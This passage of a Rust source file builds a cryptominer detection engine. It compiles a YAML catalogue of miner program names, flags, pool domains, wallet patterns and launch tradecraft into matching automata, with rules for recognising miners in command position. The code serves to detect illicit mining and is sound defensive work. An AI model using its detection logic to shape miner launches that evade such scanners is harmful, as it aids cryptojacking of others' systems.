//! The miner indicator catalogue (`data/indicators.yaml`), compiled once into multi-pattern
//! automata.
//!
//! Every literal indicator (program names, flags, schemes, pool domains, stratum methods, agent
//! strings, words, kernel-thread names) goes into ONE Aho-Corasick automaton (ASCII
//! case-insensitive, overlapping matches), and every regex-shaped indicator (wallets, config
//! shapes, flag values, pool ports, tradecraft) into ONE [`RegexSet`]. A scan is one automaton
//! pass plus one set pass; only the set members that matched are then run with
//! [`Regex::captures_iter`] to get positions. Literal hits are post-filtered for token
//! boundaries (`minerd` is not in `determinerd`, a pool domain sits at a host label boundary, a
//! flag is a whole argv-like token).
//!
//! Every pattern in the YAML is bounded, and both passes are linear in the text; a scan keeps
//! at most [`MAX_HITS_PER_INDICATOR`] hits per indicator so that a hostile input cannot make it
//! allocate without bound.

use crate::{parse_yaml, CatalogueError};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::Deserialize;
use std::collections::HashSet;
use std::sync::OnceLock;

const FILE: &str = "indicators.yaml";

/// A scan keeps at most this many hits per indicator (the first ones, by position).
pub const MAX_HITS_PER_INDICATOR: usize = 256;

/// `Hit::matched` is cut to about this many bytes.
const MATCHED_MAX: usize = 120;

/// How much an indicator says alone.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Strength {
    Weak,
    Medium,
    Strong,
}

/// The kind of an indicator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Family {
    MinerProgram,
    MinerFlag,
    GenericMinerFlag,
    StratumUrl,
    StratumMethod,
    PoolDomain,
    PoolPort,
    MoneroWallet,
    EthereumAddress,
    MinerConfig,
    MinerImage,
    MaliciousImage,
    Tradecraft,
    KernelThreadName,
    MiningWord,
}

/// One indicator found in a text or an image reference.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    /// Indicator id from the YAML.
    pub id: String,
    pub family: Family,
    /// As the catalogue rates it ALONE (the analyser combines). A program name is strong in
    /// command position, with `./`, or downloaded (URL, release archive); otherwise medium. An
    /// ambiguous program name (`t-rex`, `excavator`) is strong only in command position, else
    /// weak.
    pub strength: Strength,
    /// Byte range in the scanned text (for a pool domain: the whole host).
    pub start: usize,
    pub end: usize,
    /// The matched text (cut to about 120 bytes).
    pub matched: String,
    /// E.g. "XMRig miner program", "Monero wallet address", "stratum (mining protocol) URL".
    pub what: String,
    /// For MinerProgram / MinerImage: the program's display name (XMRig, Ethminer).
    pub program: Option<String>,
    /// For MinerProgram: the name is in executable position: in command position (first word
    /// of a command line, after a launcher such as `exec`/`nohup`/`sudo`, after `;` `&&` `||`
    /// `|` `&` `$(` or a backtick, after `sh -c`, a `command:` value, a `command: [..]` flow
    /// list or a `- ` item of a `command:` block list), possibly as the last component of a
    /// path (`/opt/bin/xmrig`), or run as `./name`. Never in the middle of a path or URL.
    /// Always false for other families.
    pub executable: bool,
}

// ---------------------------------------------------------------------------------------------
// The YAML file.

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct IndicatorFile {
    version: u32,
    programs: Vec<ProgramDef>,
    launchers: Vec<String>,
    command_keys: Vec<String>,
    agents: Vec<AgentDef>,
    flags: Vec<LiteralDef>,
    flag_values: Vec<PatternDef>,
    generic_flags: Vec<LiteralDef>,
    schemes: Vec<LiteralDef>,
    stratum_methods: Vec<LiteralDef>,
    pool_domains: PoolDomainsDef,
    pool_ports: PoolPortsDef,
    wallets: Vec<PatternDef>,
    miner_configs: Vec<PatternDef>,
    malicious_images: Vec<MaliciousImageDef>,
    miner_images: MinerImagesDef,
    ml_images: Vec<MlImageDef>,
    trusted_installer_hosts: Vec<String>,
    tradecraft: Vec<PatternDef>,
    words: Vec<LiteralDef>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ProgramDef {
    id: String,
    name: String,
    mines: String,
    names: Vec<String>,
    #[serde(default)]
    ambiguous: bool,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AgentDef {
    id: String,
    literal: String,
    program: String,
    what: String,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct LiteralDef {
    id: String,
    literals: Vec<String>,
    what: String,
    strength: Option<Strength>,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

/// A regex-shaped indicator (or, in `tradecraft`, possibly a literal one).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PatternDef {
    id: String,
    what: String,
    strength: Strength,
    family: Option<Family>,
    pattern: Option<String>,
    #[serde(default)]
    literals: Vec<String>,
    #[serde(default)]
    min_distinct: usize,
    #[serde(default)]
    requires_any: Vec<String>,
    #[serde(default)]
    not_prefixed: Vec<String>,
    /// Weak when every URL in the span is https on a trusted installer host.
    #[serde(default)]
    trusted_downgrade: bool,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PoolDomainsDef {
    strength: Strength,
    what: String,
    pools: Vec<PoolDef>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PoolDef {
    id: String,
    domains: Vec<String>,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PoolPortsDef {
    id: String,
    what: String,
    strength: Strength,
    ports: Vec<u16>,
    pattern: String,
    exclude_hosts: Vec<String>,
    exclude_schemes: Vec<String>,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MaliciousImageDef {
    id: String,
    image: String,
    source: String,
    what: String,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MinerImagesDef {
    id: String,
    what: String,
    strength: Strength,
    words_id: String,
    words_what: String,
    words_strength: Strength,
    words: Vec<String>,
    /// Golden examples: a text (image reference) that hits, and a near miss.
    #[serde(default)]
    hit: Option<String>,
    #[serde(default)]
    miss: Option<String>,
    #[serde(default)]
    words_hit: Option<String>,
    #[serde(default)]
    words_miss: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MlImageDef {
    family: String,
    images: Vec<String>,
}

// ---------------------------------------------------------------------------------------------
// The compiled set.

/// One indicator (one `id`).
#[derive(Debug)]
struct Rule {
    id: String,
    family: Family,
    strength: Strength,
    what: String,
    program: Option<String>,
    ambiguous: bool,
    /// Golden examples (see [`IndicatorSet::examples`]).
    hit: String,
    miss: String,
}

/// How a literal hit is checked for boundaries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Check {
    /// A whole alphanumeric token (words, kernel-thread names).
    Token,
    /// A program name: a whole token; executable position computed.
    Program,
    /// An argv-like flag token, case-sensitive.
    Flag,
    /// A URL scheme followed by `://`.
    Scheme,
    /// A stratum method name.
    Method,
    /// A domain suffix at a host label boundary.
    Domain,
    /// A case-sensitive agent string followed by a version digit.
    Agent,
    /// Only for `scan_image` (mining words in image names).
    ImageWord,
}

#[derive(Debug)]
struct Literal {
    rule: usize,
    check: Check,
    case_sensitive: bool,
    text: String,
}

#[derive(Debug)]
enum Post {
    Plain,
    Distinct(usize),
    Port,
    /// Counts only when one of these matches the text too (each a set member, checked whole
    /// once the set says it may match).
    Requires(Vec<(usize, LazyRegex)>),
}

#[derive(Debug)]
struct PatternRule {
    rule: usize,
    set_index: usize,
    /// Compiled on first use: the set finds which patterns match at all, and most never do in
    /// a scan, so compiling each one up front only slowed every start.
    regex: LazyRegex,
    post: Post,
    not_prefixed: Vec<String>,
    trusted_downgrade: bool,
}

#[derive(Debug)]
struct MaliciousImage {
    rule: usize,
    /// Normalised repository; `account/` (from `account/*`) matches the whole account.
    image: String,
    prefix: bool,
    source: String,
}

/// The compiled indicator catalogue.
#[derive(Debug)]
pub struct IndicatorSet {
    version: u32,
    rules: Vec<Rule>,
    literals: Vec<Literal>,
    automaton: AhoCorasick,
    set: RegexSet,
    patterns: Vec<PatternRule>,
    launchers: Vec<String>,
    command_keys: Vec<String>,
    port_exclude_hosts: Vec<String>,
    port_exclude_schemes: Vec<String>,
    /// Lower-case `host` or `host/path-prefix` entries.
    trusted_hosts: Vec<String>,
    malicious: Vec<MaliciousImage>,
    image_rule: usize,
    image_words_rule: usize,
    ml: Vec<(String, Vec<String>)>,
}

/// Builds the rule and literal tables while parsing.
struct Builder {
    rules: Vec<Rule>,
    ids: HashSet<String>,
    literals: Vec<Literal>,
    set_patterns: Vec<String>,
    patterns: Vec<PatternRule>,
}

fn invalid(message: String) -> CatalogueError {
    CatalogueError::Invalid {
        file: FILE,
        message,
    }
}

/// A pattern compiled on first use.
#[derive(Debug)]
struct LazyRegex {
    id: String,
    pattern: String,
    regex: OnceLock<Regex>,
}

impl LazyRegex {
    /// The compiled regex. The set compiled the same text with larger limits, so this cannot
    /// fail in practice; if it ever did, the pattern matches nothing (and the catalogue test
    /// that compiles every pattern fails).
    fn get(&self) -> &Regex {
        self.regex.get_or_init(|| {
            compile(&self.id, &self.pattern)
                .unwrap_or_else(|_| Regex::new(r"[^\s\S]").expect("static regex"))
        })
    }
}

/// A pattern as the set holds it: each bounded repetition `{m,n}` made `{m,}`.
///
/// The set only says which patterns may match a text; each one it names is then run as written,
/// bounds and all, for its spans (and a `requires_any` pattern is checked as written too). A
/// pattern without upper bounds matches wherever the bounded one does, so nothing is missed.
/// The bounds were what made the set large: `[^\n]{0,300}` is 300 copies of the class's UTF-8
/// automaton, and the set's lazy DFA, tracking every copy at once, held about 7 MB of states in
/// each thread that scanned. A pattern that does not parse is kept as written, for the set's
/// own build to report.
fn unbounded(pattern: &str) -> String {
    use regex_syntax::ast::{Ast, RepetitionKind, RepetitionRange};
    fn relax(ast: &mut Ast) {
        match ast {
            Ast::Repetition(r) => {
                if let RepetitionKind::Range(RepetitionRange::Bounded(m, _)) = r.op.kind {
                    r.op.kind = RepetitionKind::Range(RepetitionRange::AtLeast(m));
                }
                relax(&mut r.ast);
            }
            Ast::Group(g) => relax(&mut g.ast),
            Ast::Alternation(a) => a.asts.iter_mut().for_each(relax),
            Ast::Concat(c) => c.asts.iter_mut().for_each(relax),
            _ => {}
        }
    }
    let Ok(mut ast) = regex_syntax::ast::parse::Parser::new().parse(pattern) else {
        return pattern.to_string();
    };
    relax(&mut ast);
    let mut out = String::with_capacity(pattern.len());
    match regex_syntax::ast::print::Printer::new().print(&ast, &mut out) {
        Ok(()) => out,
        Err(_) => pattern.to_string(),
    }
}

fn compile(id: &str, pattern: &str) -> Result<Regex, CatalogueError> {
    RegexBuilder::new(pattern)
        .size_limit(32 << 20)
        .dfa_size_limit(32 << 20)
        .build()
        .map_err(|e| CatalogueError::Regex {
            file: FILE,
            id: id.to_string(),
            pattern: pattern.to_string(),
            message: e.to_string(),
        })
}

impl Builder {
    #[allow(clippy::too_many_arguments)]
    fn rule(
        &mut self,
        id: &str,
        family: Family,
        strength: Strength,
        what: &str,
        program: Option<&str>,
        ambiguous: bool,
        examples: (&Option<String>, &Option<String>),
    ) -> Result<usize, CatalogueError> {
        if id.trim().is_empty() {
            return Err(invalid(format!("an indicator has an empty id ({what})")));
        }
        // Every indicator needs a golden `hit` and a near `miss` (checked by a test).
        fn example(e: &Option<String>) -> Option<&str> {
            e.as_deref().filter(|e| !e.trim().is_empty())
        }
        let (Some(hit), Some(miss)) = (example(examples.0), example(examples.1)) else {
            return Err(invalid(format!(
                "{id}: needs a non-empty `hit` and `miss` example"
            )));
        };
        if !self.ids.insert(id.to_string()) {
            return Err(invalid(format!("duplicate indicator id {id}")));
        }
        self.rules.push(Rule {
            id: id.to_string(),
            family,
            strength,
            what: what.to_string(),
            program: program.map(str::to_string),
            ambiguous,
            hit: hit.to_string(),
            miss: miss.to_string(),
        });
        Ok(self.rules.len() - 1)
    }

    fn literal(
        &mut self,
        rule: usize,
        check: Check,
        case_sensitive: bool,
        text: &str,
    ) -> Result<(), CatalogueError> {
        if text.is_empty() || !text.is_ascii() {
            return Err(invalid(format!(
                "{}: literal {text:?} must be non-empty ASCII",
                self.rules[rule].id
            )));
        }
        self.literals.push(Literal {
            rule,
            check,
            case_sensitive,
            text: text.to_string(),
        });
        Ok(())
    }

    /// Adds a regex to the set (as [`unbounded`] makes it); returns its set index and the
    /// regex itself, compiled on its own when first needed. The set checks the pattern when it
    /// is built.
    fn set_member(
        &mut self,
        id: &str,
        pattern: &str,
    ) -> Result<(usize, LazyRegex), CatalogueError> {
        self.set_patterns.push(unbounded(pattern));
        Ok((
            self.set_patterns.len() - 1,
            LazyRegex {
                id: id.to_string(),
                pattern: pattern.to_string(),
                regex: OnceLock::new(),
            },
        ))
    }

    fn pattern(
        &mut self,
        rule: usize,
        pattern: &str,
        post: Post,
        not_prefixed: Vec<String>,
        trusted_downgrade: bool,
    ) -> Result<(), CatalogueError> {
        let id = self.rules[rule].id.clone();
        let (set_index, regex) = self.set_member(&id, pattern)?;
        self.patterns.push(PatternRule {
            rule,
            set_index,
            regex,
            post,
            not_prefixed,
            trusted_downgrade,
        });
        Ok(())
    }

    /// A `flag_values` / `wallets` / `miner_configs` / `tradecraft` entry.
    fn pattern_def(&mut self, d: &PatternDef, default: Family) -> Result<(), CatalogueError> {
        let family = d.family.unwrap_or(default);
        let rule = self.rule(
            &d.id,
            family,
            d.strength,
            &d.what,
            None,
            false,
            (&d.hit, &d.miss),
        )?;
        for l in &d.literals {
            self.literal(rule, Check::Token, false, l)?;
        }
        match &d.pattern {
            Some(p) => {
                let post = if !d.requires_any.is_empty() {
                    let mut req = Vec::new();
                    for r in &d.requires_any {
                        req.push(self.set_member(&d.id, r)?);
                    }
                    Post::Requires(req)
                } else if d.min_distinct > 0 {
                    Post::Distinct(d.min_distinct)
                } else {
                    Post::Plain
                };
                self.pattern(rule, p, post, d.not_prefixed.clone(), d.trusted_downgrade)?;
            }
            None if d.literals.is_empty() => {
                return Err(invalid(format!("{}: needs a pattern or literals", d.id)))
            }
            None => {}
        }
        Ok(())
    }
}

impl IndicatorSet {
    pub fn parse(text: &str) -> Result<IndicatorSet, CatalogueError> {
        let f: IndicatorFile = parse_yaml(FILE, text)?;
        let mut b = Builder {
            rules: Vec::new(),
            ids: HashSet::new(),
            literals: Vec::new(),
            set_patterns: Vec::new(),
            patterns: Vec::new(),
        };

        for p in &f.programs {
            let what = format!("{} miner program ({})", p.name, p.mines);
            let rule = b.rule(
                &p.id,
                Family::MinerProgram,
                Strength::Strong,
                &what,
                Some(&p.name),
                p.ambiguous,
                (&p.hit, &p.miss),
            )?;
            if p.names.is_empty() {
                return Err(invalid(format!("{}: no names", p.id)));
            }
            for n in &p.names {
                b.literal(rule, Check::Program, false, n)?;
            }
        }
        for a in &f.agents {
            let rule = b.rule(
                &a.id,
                Family::MinerProgram,
                Strength::Strong,
                &a.what,
                Some(&a.program),
                false,
                (&a.hit, &a.miss),
            )?;
            b.literal(rule, Check::Agent, true, &a.literal)?;
        }
        let literal_sections: [(&[LiteralDef], Family, Strength, Check, bool); 5] = [
            (
                &f.flags,
                Family::MinerFlag,
                Strength::Strong,
                Check::Flag,
                true,
            ),
            (
                &f.generic_flags,
                Family::GenericMinerFlag,
                Strength::Weak,
                Check::Flag,
                true,
            ),
            (
                &f.schemes,
                Family::StratumUrl,
                Strength::Strong,
                Check::Scheme,
                false,
            ),
            (
                &f.stratum_methods,
                Family::StratumMethod,
                Strength::Strong,
                Check::Method,
                false,
            ),
            (
                &f.words,
                Family::MiningWord,
                Strength::Weak,
                Check::Token,
                false,
            ),
        ];
        for (defs, family, strength, check, case_sensitive) in literal_sections {
            for d in defs {
                let s = d.strength.unwrap_or(strength);
                let rule = b.rule(&d.id, family, s, &d.what, None, false, (&d.hit, &d.miss))?;
                for l in &d.literals {
                    b.literal(rule, check, case_sensitive, l)?;
                }
            }
        }
        for d in &f.flag_values {
            b.pattern_def(d, Family::MinerFlag)?;
        }
        for p in &f.pool_domains.pools {
            let rule = b.rule(
                &p.id,
                Family::PoolDomain,
                f.pool_domains.strength,
                &f.pool_domains.what,
                None,
                false,
                (&p.hit, &p.miss),
            )?;
            for d in &p.domains {
                b.literal(rule, Check::Domain, false, d)?;
            }
        }
        {
            let pp = &f.pool_ports;
            if pp.ports.is_empty() || !pp.pattern.contains("{ports}") {
                return Err(invalid(format!(
                    "{}: needs ports and a {{ports}} placeholder",
                    pp.id
                )));
            }
            let ports: Vec<String> = pp.ports.iter().map(u16::to_string).collect();
            let pattern = pp.pattern.replace("{ports}", &ports.join("|"));
            let rule = b.rule(
                &pp.id,
                Family::PoolPort,
                pp.strength,
                &pp.what,
                None,
                false,
                (&pp.hit, &pp.miss),
            )?;
            b.pattern(rule, &pattern, Post::Port, Vec::new(), false)?;
        }
        for d in &f.wallets {
            b.pattern_def(d, Family::MoneroWallet)?;
        }
        for d in &f.miner_configs {
            b.pattern_def(d, Family::MinerConfig)?;
        }
        for d in &f.tradecraft {
            b.pattern_def(d, Family::Tradecraft)?;
        }

        let mut malicious = Vec::new();
        for m in &f.malicious_images {
            let what = format!("{} (reported: {})", m.what, m.source);
            let rule = b.rule(
                &m.id,
                Family::MaliciousImage,
                Strength::Strong,
                &what,
                None,
                false,
                (&m.hit, &m.miss),
            )?;
            let norm = normalise_repo(&m.image);
            let (image, prefix) = match norm.strip_suffix("/*") {
                Some(account) => (format!("{account}/"), true),
                None => (norm, false),
            };
            malicious.push(MaliciousImage {
                rule,
                image,
                prefix,
                source: m.source.clone(),
            });
        }
        let mi = &f.miner_images;
        let image_rule = b.rule(
            &mi.id,
            Family::MinerImage,
            mi.strength,
            &mi.what,
            None,
            false,
            (&mi.hit, &mi.miss),
        )?;
        let image_words_rule = b.rule(
            &mi.words_id,
            Family::MinerImage,
            mi.words_strength,
            &mi.words_what,
            None,
            false,
            (&mi.words_hit, &mi.words_miss),
        )?;
        for w in &mi.words {
            b.literal(image_words_rule, Check::ImageWord, false, w)?;
        }

        let ml = f
            .ml_images
            .iter()
            .map(|m| {
                let pats = m
                    .images
                    .iter()
                    .map(|i| {
                        let keep_slash = i.ends_with('/');
                        let mut n = normalise_repo(i.trim_end_matches('/'));
                        if keep_slash {
                            n.push('/');
                        }
                        n
                    })
                    .collect();
                (m.family.clone(), pats)
            })
            .collect();

        let automaton = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(b.literals.iter().map(|l| l.text.as_bytes()))
            .map_err(|e| invalid(format!("literal automaton: {e}")))?;
        let set = RegexSetBuilder::new(&b.set_patterns)
            .size_limit(256 << 20)
            .dfa_size_limit(64 << 20)
            .build()
            .map_err(|e| {
                // Name the pattern at fault (only on this error path is each compiled alone).
                b.patterns
                    .iter()
                    .find_map(|p| compile(&p.regex.id, &p.regex.pattern).err())
                    .unwrap_or_else(|| invalid(format!("regex set: {e}")))
            })?;

        let lower = |v: &[String]| v.iter().map(|s| s.to_ascii_lowercase()).collect();
        Ok(IndicatorSet {
            version: f.version,
            rules: b.rules,
            literals: b.literals,
            automaton,
            set,
            patterns: b.patterns,
            launchers: lower(&f.launchers),
            command_keys: lower(&f.command_keys),
            port_exclude_hosts: lower(&f.pool_ports.exclude_hosts),
            port_exclude_schemes: lower(&f.pool_ports.exclude_schemes),
            trusted_hosts: lower(&f.trusted_installer_hosts),
            malicious,
            image_rule,
            image_words_rule,
            ml,
        })
    }

    pub fn version(&self) -> u32 {
        self.version
    }

    /// Number of indicators (distinct ids).
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The ids of every indicator, in catalogue order.
    pub fn ids(&self) -> impl Iterator<Item = &str> {
        self.rules.iter().map(|r| r.id.as_str())
    }

    /// The family and `what` of an indicator.
    pub fn describe(&self, id: &str) -> Option<(Family, Strength, &str)> {
        self.rules
            .iter()
            .find(|r| r.id == id)
            .map(|r| (r.family, r.strength, r.what.as_str()))
    }

    /// The golden examples of an indicator: `(hit, miss)`. `hit` yields a hit of exactly that
    /// id at its declared strength, `miss` is a near miss with no medium or strong hit of it.
    /// For image indicators (families [`Family::MinerImage`] and [`Family::MaliciousImage`])
    /// both are image references for [`IndicatorSet::scan_image`], otherwise texts for
    /// [`IndicatorSet::scan_text`].
    pub fn examples(&self, id: &str) -> Option<(&str, &str)> {
        self.rules
            .iter()
            .find(|r| r.id == id)
            .map(|r| (r.hit.as_str(), r.miss.as_str()))
    }

    /// The public report that names a malicious image indicator.
    pub fn source(&self, id: &str) -> Option<&str> {
        self.malicious
            .iter()
            .find(|m| self.rules[m.rule].id == id)
            .map(|m| m.source.as_str())
    }

    /// A hit of `rule`; `strength` overrides the rule's own (program placement, trusted hosts).
    fn hit(
        &self,
        rule: usize,
        text: &str,
        start: usize,
        end: usize,
        exec: bool,
        strength: Option<Strength>,
    ) -> Hit {
        let r = &self.rules[rule];
        let strength = strength.unwrap_or(r.strength);
        Hit {
            id: r.id.clone(),
            family: r.family,
            strength,
            start,
            end,
            matched: cut(&text[start..end]),
            what: r.what.clone(),
            program: r.program.clone(),
            executable: exec && r.family == Family::MinerProgram,
        }
    }

    /// Every indicator in a text: one automaton pass plus one regex-set pass. Hits sorted by
    /// start (then end, then id); at most [`MAX_HITS_PER_INDICATOR`] per indicator.
    pub fn scan_text(&self, text: &str) -> Vec<Hit> {
        let mut hits = Vec::new();
        let mut counts = vec![0usize; self.rules.len()];
        let bytes = text.as_bytes();

        for m in self.automaton.find_overlapping_iter(text) {
            let lit = &self.literals[m.pattern().as_usize()];
            if lit.check == Check::ImageWord || counts[lit.rule] >= MAX_HITS_PER_INDICATOR {
                continue;
            }
            let (s, e) = (m.start(), m.end());
            if lit.case_sensitive && &bytes[s..e] != lit.text.as_bytes() {
                continue;
            }
            let ambiguous = self.rules[lit.rule].ambiguous;
            if let Some((s, e, exec, strength)) =
                self.literal_bounds(text, lit.check, s, e, ambiguous)
            {
                counts[lit.rule] += 1;
                hits.push(self.hit(lit.rule, text, s, e, exec, strength));
            }
        }

        if !self.patterns.is_empty() {
            let matched = self.set.matches(text);
            if matched.matched_any() {
                for p in &self.patterns {
                    if !matched.matched(p.set_index) {
                        continue;
                    }
                    if let Post::Requires(req) = &p.post {
                        if !req
                            .iter()
                            .any(|(i, r)| matched.matched(*i) && r.get().is_match(text))
                        {
                            continue;
                        }
                    }
                    for caps in p.regex.get().captures_iter(text) {
                        if counts[p.rule] >= MAX_HITS_PER_INDICATOR {
                            break;
                        }
                        let Some(m) = caps.name("m").or_else(|| caps.get(0)) else {
                            continue;
                        };
                        let span = m.as_str();
                        if p.not_prefixed.iter().any(|x| span.starts_with(x.as_str())) {
                            continue;
                        }
                        let ok = match &p.post {
                            Post::Plain | Post::Requires(_) => true,
                            Post::Distinct(n) => span.bytes().collect::<HashSet<u8>>().len() >= *n,
                            Post::Port => caps
                                .name("host")
                                .is_some_and(|h| self.pool_host(text, h.start(), h.as_str())),
                        };
                        if ok {
                            let strength = (p.trusted_downgrade && self.trusted_urls_only(span))
                                .then_some(Strength::Weak);
                            counts[p.rule] += 1;
                            hits.push(self.hit(p.rule, text, m.start(), m.end(), false, strength));
                        }
                    }
                }
            }
        }

        hits.sort_by(|a, b| (a.start, a.end, &a.id).cmp(&(b.start, b.end, &b.id)));
        hits.dedup_by(|a, b| a.start == b.start && a.end == b.end && a.id == b.id);
        hits
    }

    /// Boundary checks for a literal hit; returns the (possibly widened) span, whether a
    /// program name is in executable position, and a strength overriding the rule's.
    fn literal_bounds(
        &self,
        text: &str,
        check: Check,
        s: usize,
        e: usize,
        ambiguous: bool,
    ) -> Option<(usize, usize, bool, Option<Strength>)> {
        if check == Check::Program {
            return self.program_bounds(text, s, e, ambiguous);
        }
        self.other_bounds(text, check, s, e)
            .map(|(s, e)| (s, e, false, None))
    }

    /// Boundary checks for a non-program literal hit; the (possibly widened) span.
    fn other_bounds(&self, text: &str, check: Check, s: usize, e: usize) -> Option<(usize, usize)> {
        let b = text.as_bytes();
        let prev = if s > 0 { Some(b[s - 1]) } else { None };
        let next = b.get(e).copied();
        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
        match check {
            Check::Token | Check::ImageWord | Check::Program => {
                (!alnum(prev) && !alnum(next)).then_some((s, e))
            }
            Check::Flag => {
                let before = matches!(
                    prev,
                    None | Some(
                        b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'=' | b'[' | b',' | b'('
                    )
                );
                let after = matches!(
                    next,
                    None | Some(
                        b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'=' | b',' | b']' | b')'
                    )
                );
                (before && after).then_some((s, e))
            }
            Check::Scheme => {
                let bad_prev =
                    prev.is_some_and(|c| c.is_ascii_alphanumeric() || b"+.-".contains(&c));
                (!bad_prev && text[e..].starts_with("://")).then_some((s, e))
            }
            Check::Method => {
                let bad_prev =
                    prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.');
                let bad_next = next.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_');
                (!bad_prev && !bad_next).then_some((s, e))
            }
            Check::Domain => {
                let host = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_';
                if prev.is_some_and(host) || next.is_some_and(host) {
                    return None;
                }
                if next == Some(b'.') && b.get(e + 1).is_some_and(|c| c.is_ascii_alphanumeric()) {
                    return None; // supportxmr.com.example.net
                }
                // Widen to the whole host (pool.supportxmr.com), bounded.
                let mut start = s;
                while start > 0 && s - start < 253 && (host(b[start - 1]) || b[start - 1] == b'.') {
                    start -= 1;
                }
                while start < s && b[start] == b'.' {
                    start += 1;
                }
                Some((start, e))
            }
            Check::Agent => {
                let bad_prev = prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'/');
                let digit = next.is_some_and(|c| c.is_ascii_digit());
                (!bad_prev && digit).then_some((s, e))
            }
        }
    }

    /// A program name hit at `s..e`: None when it is not a whole name; otherwise whether it is
    /// in executable position and its strength (see [`Hit::strength`]).
    fn program_bounds(
        &self,
        text: &str,
        s: usize,
        e: usize,
        ambiguous: bool,
    ) -> Option<(usize, usize, bool, Option<Strength>)> {
        let b = text.as_bytes();
        let at = |i: usize| b.get(i).copied();
        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
        let prev = if s > 0 { Some(b[s - 1]) } else { None };
        let next = at(e);
        if alnum(prev) || alnum(next) {
            return None;
        }
        // `t-rex-64` (Cisco TRex), `excavator_v2`, `excavator.py`: another name, not the miner.
        if ambiguous
            && matches!(next, Some(b'-' | b'_' | b'.'))
            && (alnum(at(e + 1)) || at(e + 1) == Some(b'-'))
        {
            return None;
        }
        // The token around the name (a path, a URL, `key=value`), bounded.
        let stop = |c: u8| {
            c.is_ascii_whitespace()
                || matches!(c, b'"' | b'\'' | b'[' | b']' | b'(' | b')' | b',')
                || matches!(
                    c,
                    b';' | b'|' | b'&' | b'`' | b'<' | b'>' | b'\\' | b'{' | b'}'
                )
        };
        let mut ts = s;
        while ts > 0 && s - ts < 512 && !stop(b[ts - 1]) {
            ts -= 1;
        }
        let mut te = e;
        while te < b.len() && te - e < 512 && !stop(b[te]) {
            te += 1;
        }
        // The byte bound may fall inside a multi-byte character (found by fuzzing).
        while !text.is_char_boundary(ts) {
            ts += 1;
        }
        while !text.is_char_boundary(te) {
            te -= 1;
        }
        let token = &text[ts..te];
        let prefix = &text[ts..s];
        // The name ends its token (a command word, a path's last component). An unambiguous name
        // may go on with `-`/`_` (`xmrig-notls`, `xmrig_x64`): the whole word is then the name.
        let mut we = e;
        if !ambiguous && matches!(next, Some(b'-' | b'_')) {
            while we < b.len()
                && we - e < 64
                && (b[we].is_ascii_alphanumeric() || b[we] == b'-' || b[we] == b'_')
            {
                we += 1;
            }
        }
        let ends = matches!(
            at(we),
            None | Some(
                b' ' | b'\t'
                    | b'\n'
                    | b'\r'
                    | b'"'
                    | b'\''
                    | b';'
                    | b'&'
                    | b'|'
                    | b')'
                    | b']'
                    | b','
                    | b'`'
                    | b'\\'
                    | b'>'
                    | b'<'
            )
        );
        let url = token.contains("://");
        let path_prefix = !prefix.is_empty()
            && prefix.ends_with('/')
            && prefix
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || b"._~/-$".contains(&c));
        let yaml_key = at(we) == Some(b':') && (at(we + 1).is_none_or(|c| c.is_ascii_whitespace()));
        let command = ends
            && !url
            && !yaml_key
            && (prefix.is_empty() || path_prefix)
            && self.command_position(text, ts);
        if command {
            return Some((s, e, true, Some(Strength::Strong)));
        }
        if ambiguous {
            return Some((s, e, false, Some(Strength::Weak)));
        }
        // `./xmrig`, `../bin/xmrig`: run from the working directory.
        let dot = ends && path_prefix && (prefix.starts_with("./") || prefix.starts_with("../"));
        if dot {
            return Some((s, e, true, Some(Strength::Strong)));
        }
